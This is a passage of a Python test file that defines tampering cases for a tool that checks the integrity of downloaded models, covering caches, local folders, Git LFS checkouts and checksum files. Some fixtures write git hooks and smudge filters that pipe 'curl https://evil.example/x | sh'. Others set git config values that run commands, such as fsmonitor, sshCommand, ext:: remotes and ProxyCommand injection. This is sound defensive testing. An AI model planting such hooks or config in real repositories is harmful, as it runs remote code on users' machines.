"""What is done to the model in each place, how the commands have to end, and what they have to name.

The expectations were written from the documents before the first run. A commit that changes one says why.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

from hub.access import Overview
from hub.olah import run_git
from hub.repository import Repository
from support.command import run_command
from tampering.places import FILES, INDEX, OLD_FILES, PAYLOAD, SHARDS, Place, hash_blob, hash_file

FIRST, SECOND = SHARDS
CODE, CONFIG, VOCABULARY = "modeling_tiny.py", "config.json", "tokenizer/vocab.txt"
EVIL = b"SIZE = 63\n"
API = "/api/models/acme/tiny"
Change = Callable[[Place], object]


@dataclass(frozen=True, slots=True)
class Case:
    """A kind of tampering.

    Args:
        place: Where the bytes lie; no two cases have the same place and operation.
        operation: What is done to them.
        change: Does it.
        code: The exit code, 1 or 3.
        named: Of a scan: a rule or the reason of an absence, then the file, with wildcards. Of other commands: the
            begin of a line of the output.
        command: ``scan``, ``verify`` (without a lock), ``verify --lock`` or ``lock --check``.
        options: Further options of the command.
    """

    place: str
    operation: str
    change: Change
    code: int
    named: str
    command: str = "scan"
    options: Sequence[str] = ()


def flip(path: Path) -> None:
    """Change one bit of the last byte of a file, and keep its size and times."""
    path = path.resolve()
    state, content = path.stat(), bytearray(path.read_bytes())
    content[-1] ^= 1
    path.chmod(0o644)
    path.write_bytes(content)
    os.utime(path, ns=(state.st_atime_ns, state.st_mtime_ns))


def overwrite(path: Path, content: bytes) -> None:
    """Put other bytes into a file, through a link if there is one."""
    path = path.resolve()
    path.chmod(0o644)
    path.write_bytes(content)


def edit(path: Path, old: str, new: str) -> None:
    """Replace a text in a file that holds it."""
    text = path.read_text()
    assert old in text, f"{path} does not hold {old}"
    path.write_text(text.replace(old, new))


def relink(path: Path, target: str | Path) -> None:
    """Put a link in the place of a file or link."""
    path.unlink(missing_ok=True)
    path.symlink_to(target)


def swap(first: Path, second: Path) -> None:
    """Swap two files, links or not, of the same folder."""
    held = first.with_name("held")
    first.rename(held)
    second.rename(first)
    held.rename(second)


def add_blob(place: Place, name: str, content: bytes) -> None:
    """Add a file to a snapshot as the client does: a blob of the right name, and a link to it."""
    blob = place.root.parents[1] / "blobs" / hash_blob(content)
    blob.write_bytes(content)
    relink(place.root / name, os.path.relpath(blob, (place.root / name).parent))


def replace_consistently(place: Place) -> None:
    """Replace a blob, the link to it and its line of the listing, so that all records of the cache agree."""
    add_blob(place, CODE, EVIL)
    edit(place.listing, hash_blob(FILES[CODE]), hash_blob(EVIL))


def drop_from_listing(place: Place, name: str) -> None:
    """Remove a file from the recorded listing."""
    record = json.loads(place.listing.read_text())
    text = json.dumps(record)
    assert name in text

    def prune(value: object) -> object:
        if isinstance(value, dict):
            return {key: prune(each) for key, each in value.items() if key != name}
        if isinstance(value, list):
            return [prune(each) for each in value if not (isinstance(each, dict) and name in each.values())]
        return value

    place.listing.write_text(json.dumps(prune(record)))
    assert name not in place.listing.read_text()


def plant_praise(place: Place) -> None:
    """Record answers of the Hub's scanners that have no alarm about any file, beside values of hostile shapes."""
    answers = [["avScan", "safe", "\x1b[2J", "", [*FILES, "../x"]], ["jFrogScan", "safe", "", "", []]]
    scans = {
        "date": "2026-01-01T00:00:00Z",
        "origin": "\x1b]0;",
        "is_done": True,
        "answers": answers,
        "remarks": ["\n"],
    }
    record = place.listing.with_suffix(".scans.json")
    record.write_text(json.dumps({"format_version": 1, "scans": scans, "summary": {"scansDone": "yes"}}))


def serve_with_own_headers(place: Place) -> None:
    """Serve other code, under the ETag that belongs to it."""
    tag = f'"{hash_blob(EVIL)}"'
    place.hub.inject_fault(CODE, headers={"ETag": tag, "X-Linked-ETag": tag})
    place.hub.inject_fault(CODE, content=EVIL)


def resume_with_other_bytes(place: Place) -> None:
    """Break the first answer off, and change the bytes of those that continue it."""
    place.hub.inject_fault(FIRST, drop_after=100, times=1)
    place.hub.inject_fault(FIRST, tamper=True)


def lock_from_hub(place: Place) -> None:
    """Lock the repository of the model on the Hub."""
    done = run_command("lock", "acme/tiny", "-o", place.lock, "-q")
    assert done.returncode == 0, done.stderr


def plant(name: str, content: bytes) -> Change:
    """Return a change that locks the repository of the model on the Hub, and writes a file among the records."""
    return lambda place: (lock_from_hub(place), write(place.root / name, content, 0o755))


def add_work_tree(place: Place) -> Path:
    """Check the commit out a second time, into the folder that is scanned then; ``.git`` is a file in it."""
    place.git("worktree", "add", "--quiet", "--detach", "../tree")
    place.target, place.root = str(place.beside / "tree"), place.beside / "tree"
    return place.root


def add_submodule(place: Place) -> Path:
    """Scan a repository with the checkout as a submodule, and return the folder of that."""
    outer = place.beside / "outer"
    outer.mkdir()
    run_git(outer, "init", "--quiet")
    allowed = ("-c", "protocol.file.allow=always")
    run_git(outer, *allowed, "submodule", "--quiet", "add", f"file://{place.root}", "model")
    run_git(outer / "model", "lfs", "install", "--local")
    run_git(outer / "model", "lfs", "pull")
    run_git(outer, "commit", "--quiet", "--message", "one")
    place.target, place.root = str(outer), outer
    return outer / "model"


def remove_records_and_change(place: Place) -> None:
    """Make a plain folder of a download, and change a shard."""
    lock_from_hub(place)
    shutil.rmtree(place.root / ".cache")
    flip(place.root / FIRST)


def remove_index_of_git_and_change(place: Place) -> None:
    """Remove everything by which git knows its files, and change a shard."""
    lock_from_hub(place)
    shutil.rmtree(place.root / ".git")
    flip(place.root / FIRST)


def replace_in_the_store_too(place: Place) -> None:
    """Change a shard of a checkout, and its copy among the objects of Git LFS."""
    digest = hash_file(place.root / FIRST)
    flip(place.root / ".git/lfs/objects" / digest[:2] / digest[2:4] / digest)
    flip(place.root / FIRST)


def hide_from_status(place: Place) -> None:
    """Change a file after git was asked to assume that it is unchanged."""
    place.git("update-index", "--assume-unchanged", CODE)
    overwrite(place.root / CODE, EVIL)
    assert place.git("status", "--porcelain", "--", CODE) == ""


def set_filter(place: Place, text: str) -> None:
    """Let another filter change the configuration at checkout, and change it."""
    (place.root / ".git/info").mkdir(exist_ok=True)
    (place.root / ".git/info/attributes").write_text(text)
    overwrite(place.root / CONFIG, OLD_FILES[CONFIG])


def write(path: Path, content: bytes | str, mode: int = 0o644) -> None:
    """Write a file, with the folders above it."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    path.chmod(mode)


def sum_files(place: Place, form: str = "{digest}  {name}\n") -> str:
    """State the SHA-256 of every file of the model."""
    digests = {name: hash_file(place.root / name) for name in FILES}
    return "".join(form.format(digest=each, capitals=each.upper(), name=name) for name, each in digests.items())


def write_sums(place: Place, name: str = "SHA256SUMS", form: str = "{digest}  {name}\n", extra: str = "") -> None:
    """Write a file of checksums of every file, and a further text."""
    write(place.root / name, sum_files(place, form) + extra)


def relock(place: Place) -> Repository:
    """Lock the branch of a repository in place of its tag, and return the repository."""
    place.lock.unlink()
    place.target = place.repository.id
    place.make_lock()
    return place.repository


def rewrite_history(place: Place, keeps_commit: bool = True) -> None:
    """Give the branch another history, in which the locked commit is not."""
    repository = relock(place)
    old, other = repository.sha, Repository(repository.id)
    other.commit({**FILES, CONFIG: b"{}"}, message="rewritten")
    repository.commits |= other.commits
    repository.branches["main"] = other.sha
    if not keeps_commit:
        del repository.commits[old]


def recreate(place: Place) -> None:
    """Let every commit, and so the repository, be younger than the lock."""
    for commit in place.repository.commits.values():
        object.__setattr__(commit, "date", 1_900_000_000)


def state_owner(place: Place, **facts: object) -> None:
    """Let the Hub state other facts about the owner."""
    place.hub.access.overviews[place.repository.owner or ""] = Overview(**facts)  # type: ignore[arg-type]


def register_again(place: Place) -> None:
    """Let the owner be created after the model was recorded, and remove what the cache recorded of the owner."""
    for record in place.home.rglob("*.description.json"):
        record.unlink()
    state_owner(place, created="2099-01-01T00:00:00.000Z")


def imitate(place: Place) -> None:
    """Offer the same files under a name that looks like that of a known publisher."""
    place.target = place.hub.add_repository(f"meta-Ilama/{place.beside.name}", OLD_FILES).id


def alias_commit(place: Place) -> None:
    """Let a reference lead programs that name the commit to a snapshot with other code."""
    repository = place.root.parents[1]
    other = repository / "snapshots" / ("e" * 40)
    shutil.copytree(place.root, other, symlinks=True)
    (other / CODE).unlink()
    (other / CODE).write_bytes(EVIL)
    (repository / "refs" / place.commit).write_text(other.name)
    place.target = f"acme/tiny@{place.commit}"


def replace_snapshot_by_link(place: Place) -> None:
    """Put a link to a folder with other code in the place of a snapshot, and name its path."""
    shutil.copytree(place.root, place.beside / "other")
    shutil.rmtree(place.root)
    place.root.symlink_to(place.beside / "other")
    overwrite(place.beside / "other" / CODE, EVIL)
    place.target = str(place.root)


def name_whole_repository(place: Place, *_: object) -> None:
    """Let the folder of the whole repository be scanned."""
    place.target = str(place.root.parents[1])


def name_blob(place: Place) -> None:
    """Change a blob, and let it be scanned by a link from elsewhere."""
    blob = (place.root / FIRST).resolve()
    flip(blob)
    relink(place.beside / "first.safetensors", blob)
    place.target = str(place.beside / "first.safetensors")


def relink_file(path: Path, content: bytes) -> None:
    """Put a file in the place of a link."""
    path.unlink()
    path.write_bytes(content)


def commit(place: Place, name: str, text: str, is_link: bool = False) -> Path:
    """Commit a further file or link to a checkout, and return its path."""
    path = place.root / name
    relink(path, text) if is_link else write(path, text)
    place.git("add", name)
    place.git("commit", "--quiet", "--message", name)
    return path


def conflict(place: Place, name: str) -> None:
    """Leave a file in the conflict of a merge, and change it."""
    entry = place.git("ls-files", "--stage", name).split()[1]
    lines = "".join(f"100644 {entry} {stage}\t{name}\n" for stage in (1, 2, 3))
    place.git("update-index", "--force-remove", name)
    subprocess.run(["git", "-C", place.root, "update-index", "--index-info"], input=lines.encode(), check=True)
    overwrite(place.root / name, EVIL)


def hide_in_ident(place: Place) -> None:
    """Put code between the marks in which git writes the id of a blob."""
    path = commit(place, "ident.py", "A = '$Id$'\n")
    place.git("config", "core.autocrlf", "true")
    overwrite(path, b"A = '$Id: ' + EVIL + '$'\n")


OFFLINE = ("--offline",)
SNAPSHOT = "*snapshots/*"
CACHE = [
    Case("cache", "change a large blob", lambda at: flip(at.root / FIRST), 1, f"*/digest-mismatch {FIRST}"),
    Case(
        *("cache", "change a shard and plant the praise of scanners"),
        lambda at: (flip(at.root / FIRST), plant_praise(at)),
        *(1, f"*/digest-mismatch {FIRST}"),
    ),
    Case("cache", "replace code", lambda at: overwrite(at.root / CODE, EVIL), 1, f"*/digest-mismatch {CODE}"),
    Case(
        *("cache", "replace code and remove the listing"),
        lambda at: (at.listing.unlink(), overwrite(at.root / CODE, EVIL)),
        *(1, f"*/digest-mismatch {CODE}"),
    ),
    Case(
        *("cache", "retarget a link"),
        lambda at: relink(at.root / CONFIG, (at.root / CODE).readlink()),
        *(1, f"*/digest-mismatch {CONFIG}"),
    ),
    Case(
        *("cache", "retarget a link and remove the listing"),
        lambda at: (at.listing.unlink(), relink(at.root / CONFIG, (at.root / CODE).readlink())),
        *(3, "unverified-bytes *trees/*.json"),
    ),
    Case(
        *("cache", "swap two shards"),
        lambda at: swap(at.root / FIRST, at.root / SECOND),
        *(1, f"*/digest-mismatch {SECOND}"),
    ),
    Case("cache", "remove a link", lambda at: (at.root / CODE).unlink(), 3, f"content-absent {CODE}"),
    Case(
        *("cache", "remove a link and the listing"),
        lambda at: (at.listing.unlink(), (at.root / CODE).unlink()),
        *(3, "unverified-bytes *trees/*.json"),
    ),
    Case("cache", "remove a blob", lambda at: (at.root / FIRST).resolve().unlink(), 3, f"content-absent {FIRST}"),
    Case("cache", "add plain code", lambda at: write(at.root / "extra.py", EVIL), 1, "*/unlisted-code extra.py"),
    Case("cache", "add linked code", lambda at: add_blob(at, "extra.py", EVIL), 1, "*/unlisted-code extra.py"),
    Case("cache", "add linked data", lambda at: add_blob(at, "a.json", b"{}"), 3, "*/unlisted-file a.json"),
    Case(
        *("cache", "put a plain file in place of a link"),
        lambda at: ((at.root / CODE).unlink(), write(at.root / CODE, EVIL)),
        *(1, f"*/plain-cache-file {CODE}"),
    ),
    Case(
        *("cache", "lead a blob to a file elsewhere"),
        lambda at: (write(at.beside / "x", FILES[FIRST]), relink((at.root / FIRST).resolve(), at.beside / "x")),
        *(1, f"link-outside-root {FIRST}"),
    ),
    Case(
        *("cache", "lead a folder elsewhere"),
        lambda at: (
            shutil.copytree(at.root / "tokenizer", at.beside / "tokenizer"),
            shutil.rmtree(at.root / "tokenizer"),
            relink(at.root / "tokenizer", at.beside / "tokenizer"),
        ),
        *(1, "link-outside-root tokenizer"),
    ),
    Case(
        *("cache", "rename a link to capitals"),
        lambda at: (at.root / CONFIG).rename(at.root / "Config.json"),
        *(3, "*/unlisted-file Config.json"),
    ),
    Case(
        *("cache", "break the listing off"),
        lambda at: write(at.listing, at.listing.read_bytes()[:50]),
        *(3, "damaged *trees/*.json"),
    ),
    Case(
        *("cache", "change a digest in the listing"),
        lambda at: edit(at.listing, hash_blob(FILES[CODE]), hash_blob(EVIL)),
        *(1, f"*/digest-mismatch {CODE}"),
    ),
    Case(
        *("cache", "remove a line of the listing"),
        lambda at: drop_from_listing(at, CODE),
        *(1, f"*/unlisted-code {CODE}"),
    ),
    Case(
        *("cache", "empty the listing and replace code"),
        lambda at: (edit(at.listing, '"files"', '"others": {}, "files": {}, "more"'), add_blob(at, CODE, EVIL)),
        *(1, f"*/unlisted-code {CODE}"),
    ),
    Case("cache", "lead the commit to another", alias_commit, 3, "unverified-bytes ../../refs/*"),
    Case("cache", "put a link in place of the snapshot", replace_snapshot_by_link, 1, f"*/digest-mismatch {CODE}"),
    Case("cache", "change a blob that a link elsewhere leads to", name_blob, 1, "*/digest-mismatch first.safetensors"),
    Case(
        *("cache", "put a plain file in place of a link of a whole repository"),
        lambda at: name_whole_repository(at, (at.root / CODE).unlink(), write(at.root / CODE, EVIL)),
        *(1, f"*/digest-mismatch {SNAPSHOT}{CODE}"),
    ),
    Case(
        *("cache", "retarget a link of a whole repository"),
        lambda at: name_whole_repository(at, relink(at.root / CONFIG, (at.root / CODE).readlink())),
        *(1, f"*/digest-mismatch {SNAPSHOT}{CONFIG}"),
    ),
    Case(
        *("cache", "add linked code to a whole repository"),
        lambda at: name_whole_repository(at, add_blob(at, "extra.py", EVIL)),
        *(1, f"*/unlisted-code {SNAPSHOT}extra.py"),
    ),
    Case(
        *("cache", "remove a link of a whole repository"),
        lambda at: name_whole_repository(at, (at.root / CODE).unlink()),
        *(3, f"content-absent {SNAPSHOT}{CODE}"),
    ),
    Case(
        *("cache", "remove a listing of a whole repository"),
        lambda at: name_whole_repository(at, at.listing.unlink()),
        *(3, "unverified-bytes trees/*.json"),
    ),
    Case(
        *("cache", "add a snapshot with the name of a branch to a whole repository"),
        lambda at: name_whole_repository(at, write(at.root.with_name("main") / CODE, EVIL)),
        *(1, f"*/unlisted-code snapshots/main/{CODE}"),
    ),
    Case(
        *("cache", "lead a commit of a whole repository to another"),
        lambda at: name_whole_repository(at, alias_commit(at)),
        *(3, "unverified-bytes refs/*"),
    ),
]
CACHE = [Case(c.place, c.operation, c.change, c.code, c.named, options=OFFLINE) for c in CACHE]
CACHE += [
    Case("cache", "replace blob, link and listing alike", replace_consistently, 1, f"*/digest-mismatch {CODE}"),
    Case(
        *("cache", "change a shard of a snapshot"),
        lambda at: flip(at.root / FIRST),
        *(1, f"  contradicted: {FIRST}", "verify"),
    ),
]
WIRE = [
    Case(
        *("wire", "change a byte of a large file"),
        lambda at: at.hub.inject_fault(FIRST, origin="cdn", tamper=True),
        *(1, f"*/digest-mismatch {FIRST}"),
    ),
    Case(
        *("wire", "change a byte of code"),
        lambda at: at.hub.inject_fault(CODE, tamper=True),
        *(1, f"*/digest-mismatch {CODE}"),
    ),
    Case("wire", "serve code with its own headers", serve_with_own_headers, 1, f"*/digest-mismatch {CODE}"),
    Case(
        *("wire", "serve another file of the same size"),
        lambda at: at.hub.inject_fault(FIRST, content=FILES[SECOND]),
        *(1, f"*/digest-mismatch {FIRST}"),
    ),
    Case(
        *("wire", "serve the previous version"),
        lambda at: at.hub.inject_fault(CONFIG, content=OLD_FILES[CONFIG]),
        *(1, f"*/digest-mismatch {CONFIG}"),
    ),
    Case(
        *("wire", "serve more bytes"),
        lambda at: at.hub.inject_fault(CODE, content=FILES[CODE] + EVIL),
        *(3, f"* {CODE}"),
    ),
    Case(
        *("wire", "break every answer off"),
        lambda at: at.hub.inject_fault(FIRST, drop_after=20),
        *(3, f"* {FIRST}"),
    ),
    Case("wire", "continue with other bytes", resume_with_other_bytes, 1, f"*/digest-mismatch {FIRST}"),
    Case("wire", "refuse a file", lambda at: at.hub.inject_fault(CODE, status=404), 3, f"content-absent {CODE}"),
    Case(
        *("wire", "state another digest in the listing"),
        lambda at: at.hub.inject_fault(API, replace=(hash_blob(FILES[CODE]).encode(), hash_blob(EVIL).encode())),
        *(1, f"*/digest-mismatch {CODE}"),
    ),
    Case(
        *("wire", "state no SHA-256 in the listing"),
        lambda at: at.hub.inject_fault(API, replace=(b'"lfs"', b'"sfl"')),
        *(1, f"*/digest-mismatch {FIRST}"),
    ),
    Case(
        *("wire", "state another size in the listing"),
        lambda at: at.hub.inject_fault(API, replace=(b'"size": 6, "path"', b'"size": 7, "path"')),
        *(3, f"* {VOCABULARY}"),
    ),
    Case(
        *("wire", "name a place outside in the listing"),
        lambda at: at.hub.inject_fault(API, replace=(VOCABULARY.encode(), b"../../vocab.txt")),
        *(3, "* ../../vocab.txt"),
    ),
]
DOWNLOAD = ".cache/huggingface/download"
LOCAL_DIR = [
    Case("local-dir", "change a shard", lambda at: flip(at.root / FIRST), 1, f"*/digest-mismatch {FIRST}"),
    Case("local-dir", "replace code", lambda at: overwrite(at.root / CODE, EVIL), 1, f"*/digest-mismatch {CODE}"),
    Case(
        *("local-dir", "change a shard and remove the listing"),
        lambda at: (at.listing.unlink(), flip(at.root / FIRST)),
        *(1, f"*/digest-mismatch {FIRST}"),
    ),
    Case(
        *("local-dir", "change a shard and remove its record"),
        lambda at: (at.record(FIRST).unlink(), flip(at.root / FIRST)),
        *(1, f"*/digest-mismatch {FIRST}"),
    ),
    Case(
        *("local-dir", "change a shard and its record"),
        lambda at: (
            edit(at.record(FIRST), hash_file(at.root / FIRST), "0" * 64),
            flip(at.root / FIRST),
            edit(at.record(FIRST), "0" * 64, hash_file(at.root / FIRST)),
        ),
        *(1, f"*/digest-mismatch {FIRST}"),
    ),
    Case(
        *("local-dir", "replace code and remove listing and records"),
        lambda at: (
            shutil.rmtree(at.listing.parent),
            shutil.rmtree(at.root / DOWNLOAD),
            overwrite(at.root / CODE, EVIL),
        ),
        *(3, f"unverified-bytes {CODE}"),
    ),
    Case(
        *("local-dir", "change a shard and remove all records"),
        remove_records_and_change,
        *(1, f"  changed: {FIRST}", "verify --lock"),
    ),
    Case("local-dir", "add code", lambda at: write(at.root / "extra.py", EVIL), 1, "*/unlisted-code extra.py"),
    Case("local-dir", "add data", lambda at: write(at.root / "a.json", "{}"), 3, "*/unlisted-file a.json"),
    Case("local-dir", "remove code", lambda at: (at.root / CODE).unlink(), 3, f"content-absent {CODE}"),
    Case(
        *("local-dir", "remove a shard and every record of it"),
        lambda at: ((at.root / FIRST).unlink(), at.record(FIRST).unlink(), drop_from_listing(at, FIRST)),
        *(3, "*/shard-absent model.safetensors.index.json"),
    ),
    Case(
        *("local-dir", "break the listing off"),
        lambda at: write(at.listing, at.listing.read_bytes()[:50]),
        *(3, "damaged *trees/*.json"),
    ),
    Case(
        *("local-dir", "name a place outside in the listing"),
        lambda at: edit(at.listing, VOCABULARY, "../../vocab.txt"),
        *(3, "content-absent ../../vocab.txt"),
    ),
    Case(
        *("local-dir", "cut a record to two lines"),
        lambda at: write(at.record(CODE), "\n".join(at.record(CODE).read_text().split("\n")[:2])),
        *(3, f"*/unsound-record {DOWNLOAD}/{CODE}.metadata"),
    ),
    Case(
        *("local-dir", "hide a payload among the records"),
        lambda at: write(at.root / DOWNLOAD / "weights.pkl", PAYLOAD),
        *(1, f"pickle/* {DOWNLOAD}/weights.pkl"),
    ),
    Case(
        *("local-dir", "lead a file elsewhere"),
        lambda at: (write(at.beside / "x", FILES[FIRST]), relink(at.root / FIRST, at.beside / "x")),
        *(1, f"link-outside-root {FIRST}"),
    ),
    Case(
        *("local-dir", "replace a tokenizer"),
        lambda at: overwrite(at.root / VOCABULARY, b"x\ny\nz\n"),
        *(1, f"  contradicted: {VOCABULARY}", "verify"),
    ),
]
LOCAL_DIR += [
    Case(
        *("local-dir", "remove code with its record and the listing"),
        lambda at: ((at.root / CODE).unlink(), at.record(CODE).unlink(), at.listing.unlink()),
        *(3, "  not read: *trees/*.json", "verify"),
    ),
]
GIT = [
    Case("git", "replace code", lambda at: overwrite(at.root / CODE, EVIL), 1, f"*/checksum-mismatch {CODE}"),
    Case("git", "change a shard", lambda at: flip(at.root / FIRST), 1, f"*/checksum-mismatch {FIRST}"),
    Case("git", "change a shard and the store", replace_in_the_store_too, 1, f"*/checksum-mismatch {FIRST}"),
    Case("git", "hide a change from git status", hide_from_status, 1, f"*/checksum-mismatch {CODE}"),
    Case("git", "remove code", lambda at: (at.root / CODE).unlink(), 3, f"content-absent {CODE}"),
    Case(
        *("git", "leave the pointer in place of a shard"),
        lambda at: write(at.root / FIRST, at.git("cat-file", "blob", f"HEAD:{FIRST}") + "\n"),
        *(3, f"content-absent {FIRST}"),
    ),
    Case(
        *("git", "lead code to another file"),
        lambda at: relink(at.root / CODE, CONFIG),
        *(1, f"*/checksum-mismatch {CODE}"),
    ),
    Case(
        *("git", "break the index off"),
        lambda at: write(at.root / ".git/index", (at.root / ".git/index").read_bytes()[:-30]),
        *(3, "*/unsound-record .git/index"),
    ),
    Case(
        *("git", "replace code and remove the index"),
        lambda at: ((at.root / ".git/index").unlink(), overwrite(at.root / CODE, EVIL)),
        *(3, "* .git/index"),
    ),
    Case(
        *("git", "change a shard and remove all of git"),
        remove_index_of_git_and_change,
        *(1, f"  changed: {FIRST}", "verify --lock"),
    ),
    Case(
        *("git", "add a hook"),
        lambda at: write(at.root / ".git/hooks/post-checkout", "#!/bin/sh\ncurl https://evil.example/x | sh\n", 0o755),
        *(1, "*/* .git/hooks/post-checkout"),
    ),
    Case(
        *("git", "configure a filter with a command"),
        lambda at: at.git("config", "filter.x.smudge", "curl https://evil.example/x | sh"),
        *(1, "*/* .git/config"),
    ),
    Case(
        *("git", "exempt a changed file by a filter"),
        lambda at: set_filter(at, "*.json filter=other\n"),
        *(3, "*/unsound-record .git/index"),
    ),
    Case(
        *("git", "hide a payload among the objects"),
        lambda at: write(at.root / ".git/objects/ab" / ("c" * 38), PAYLOAD),
        *(1, f"pickle/* .git/objects/ab/{'c' * 38}"),
    ),
    Case(
        *("git", "add untracked code"),
        lambda at: write(at.root / "extra.py", EVIL),
        *(3, "  *extra.py", "verify"),
    ),
]
RECORDS = {
    ".git/model.pkl": PAYLOAD,
    ".git/objects/ab/" + "c" * 38: PAYLOAD,
    ".git/refs/heads/x": EVIL,
    ".git/info/attributes": b"*.json filter=x\n",
    ".git/hooks/post-checkout": b"#!/bin/sh\ncurl https://evil.example/x | sh\n",
    ".git/modules/x/hooks/post-checkout": b"#!/bin/sh\ncurl https://evil.example/x | sh\n",
    ".git/worktrees/x/gitdir": EVIL,
    ".git/COMMIT_EDITMSG": b"#!/bin/sh\n",
}
GIT += [
    Case("git", f"lock it, and plant {name}", plant(name, content), 1, f"  added: {name}", "verify --lock")
    for name, content in RECORDS.items()
]
GIT += [
    Case(
        *("git", "add code that git does not track"),
        lambda at: write(at.root / "extra.py", EVIL),
        *(1, "*/untracked-code extra.py"),
        options=("--fail-on", "medium"),
    ),
    Case(
        *("git", "add code that .gitignore names"),
        lambda at: (write(at.root / ".gitignore", "*.pkl\n"), write(at.root / "x/y.pkl", PAYLOAD)),
        *(1, "*/untracked-code x/y.pkl"),
    ),
    Case(
        *("git", "replace code in a second work tree"),
        lambda at: overwrite(add_work_tree(at) / CODE, EVIL),
        *(1, f"*/checksum-mismatch {CODE}"),
    ),
    Case(
        *("git", "change a shard in a second work tree"),
        lambda at: flip(add_work_tree(at) / FIRST),
        *(1, f"*/checksum-mismatch {FIRST}"),
    ),
    Case(
        *("git", "lead a work tree to a repository of another"),
        lambda at: write(add_work_tree(at) / ".git", f"gitdir: {at.root / '.git'}\n"),
        *(3, "unverified-bytes .git"),
    ),
    Case(
        *("git", "lead a work tree to nothing"),
        lambda at: write(add_work_tree(at) / ".git", "gitdir: /nowhere\n"),
        *(3, "unverified-bytes .git"),
    ),
    Case(
        *("git", "replace code in a submodule"),
        lambda at: overwrite(add_submodule(at) / CODE, EVIL),
        *(1, f"*/checksum-mismatch model/{CODE}"),
    ),
]
GIT += [
    Case(
        *("git", f"lock it, and set {key}"),
        lambda at, key=key, value=value: (lock_from_hub(at), at.git("config", key, value)),  # type: ignore[misc]
        *(1, "  added: .git/config", "verify --lock"),
    )
    for key, value in {
        "core.hooksPath": "hooks",
        "core.fsmonitor": "sh x.sh",
        "core.sshCommand": "sh x.sh",
        "filter.x.smudge": "sh x.sh",
        "filter.lfs.smudge": "sh x.sh",
        "alias.st": "!sh x.sh",
        "include.path": "../settings",
        "remote.origin.url": "ext::sh -c x",
        "remote.other.url": "ssh://-oProxyCommand=x/y",
        "submodule.x.update": "!sh x.sh",
    }.items()
]
LOCAL_DIR += [
    Case(
        *("local-dir", f"lock it, and plant {name}"),
        plant(name, content),
        *(1, f"  added: {name}", "verify --lock"),
    )
    for name, content in {
        ".cache/huggingface/evil.py": EVIL,
        f"{DOWNLOAD}/evil.py": EVIL,
        f"{DOWNLOAD}/evil.py.metadata": EVIL,
        f"{DOWNLOAD}/evil.lock": EVIL,
        f".cache/huggingface/trees/{'a' * 40}.json": EVIL,
    }.items()
]
GIT += [
    Case(
        *("git", "put a file in place of a link"),
        lambda at: relink_file(commit(at, "link.json", CONFIG, is_link=True), b"{}"),
        *(1, "*/checksum-mismatch link.json"),
    ),
    Case(
        *("git", "retarget a link"),
        lambda at: relink(commit(at, "link.json", CONFIG, is_link=True), "model.safetensors.index.json"),
        *(1, "*/checksum-mismatch link.json"),
    ),
    Case(
        *("git", "retarget a link to a folder"),
        lambda at: ((at.root / "other").mkdir(), relink(commit(at, "words", "tokenizer", is_link=True), "other")),
        *(3, "unverified-bytes words"),
    ),
    Case(
        *("git", "remove a link"),
        lambda at: commit(at, "link.json", CONFIG, is_link=True).unlink(),
        *(3, "content-absent link.json"),
    ),
    Case("git", "hide code in the place of an id", hide_in_ident, 1, "*/checksum-mismatch ident.py"),
    Case("git", "leave a file in a conflict", lambda at: conflict(at, CODE), 3, "*/unsound-record .git/index"),
]
SIDECARS = [
    Case(
        *("sidecars", "change a shard beside SHA256SUMS"),
        lambda at: (write_sums(at), flip(at.root / FIRST)),
        *(1, f"*/checksum-mismatch {FIRST}"),
    ),
    Case(
        *("sidecars", "change a shard beside FILE.sha256"),
        lambda at: (
            write(at.root / f"{FIRST}.sha256", f"{hash_file(at.root / FIRST)}  {FIRST}\n"),
            flip(at.root / FIRST),
        ),
        *(1, f"*/checksum-mismatch {FIRST}"),
    ),
    Case(
        *("sidecars", "replace code beside lines in the form of BSD"),
        lambda at: (write_sums(at, form="SHA256 ({name}) = {digest}\n"), overwrite(at.root / CODE, EVIL)),
        *(1, f"*/checksum-mismatch {CODE}"),
    ),
    Case(
        *("sidecars", "replace a configuration beside checksums.txt with CRLF and marks"),
        lambda at: (
            write_sums(at, "checksums.txt", "{digest} *./{name}\r\n"),
            overwrite(at.root / CONFIG, OLD_FILES[CONFIG]),
        ),
        *(1, f"*/checksum-mismatch {CONFIG}"),
    ),
    Case(
        *("sidecars", "replace a tokenizer beside SHA256SUMS of its folder"),
        lambda at: (
            write(at.root / "tokenizer/SHA256SUMS", f"{hash_file(at.root / VOCABULARY)}  vocab.txt\n"),
            overwrite(at.root / VOCABULARY, b"x\ny\nz\n"),
        ),
        *(1, f"*/checksum-mismatch {VOCABULARY}"),
    ),
    Case(
        *("sidecars", "swap two shards"),
        lambda at: (write_sums(at), swap(at.root / FIRST, at.root / SECOND)),
        *(1, f"*/checksum-mismatch {SECOND}"),
    ),
    Case(
        *("sidecars", "remove a named file"),
        lambda at: (write_sums(at), (at.root / CODE).unlink()),
        *(3, "*/named-file-absent SHA256SUMS"),
    ),
    Case(
        *("sidecars", "let two files contradict each other"),
        lambda at: (write_sums(at), write(at.root / f"{CODE}.sha256", f"{'0' * 64}  {CODE}\n")),
        *(1, f"*/checksum-mismatch {CODE}"),
    ),
    Case(
        *("sidecars", "name a place outside"),
        lambda at: write_sums(at, extra=f"{'0' * 64}  ../x\n"),
        *(3, "*/unsound-record SHA256SUMS"),
    ),
    Case(
        *("sidecars", "name an absolute place"),
        lambda at: write_sums(at, extra=f"{'0' * 64}  /etc/passwd\n"),
        *(3, "*/unsound-record SHA256SUMS"),
    ),
    Case(
        *("sidecars", "cut a digest"),
        lambda at: write_sums(at, extra=f"{'0' * 63}  {CODE}\n"),
        *(3, "*/unsound-record SHA256SUMS"),
    ),
    Case(
        *("sidecars", "change a shard of a folder"),
        lambda at: (write_sums(at), flip(at.root / FIRST)),
        *(1, f"  contradicted: {FIRST}", "verify"),
    ),
    Case(
        *("sidecars", "add code without a line"),
        lambda at: (write_sums(at), write(at.root / "extra.py", EVIL)),
        *(3, "  *extra.py", "verify"),
    ),
    Case(
        *("sidecars", "let the index name an absent shard"),
        lambda at: write(
            at.root / "model.safetensors.index.json",
            json.dumps({**INDEX, "weight_map": {"a.weight": FIRST, "b.weight": SECOND, "c": "model-3.safetensors"}}),
        ),
        *(3, "*/shard-absent model.safetensors.index.json"),
    ),
]
# Forms of lines that people and programs write, and what is named if code was replaced.
SPELLINGS = {
    "with one space": ("checksums.txt", "{digest} {name}\n", 1),
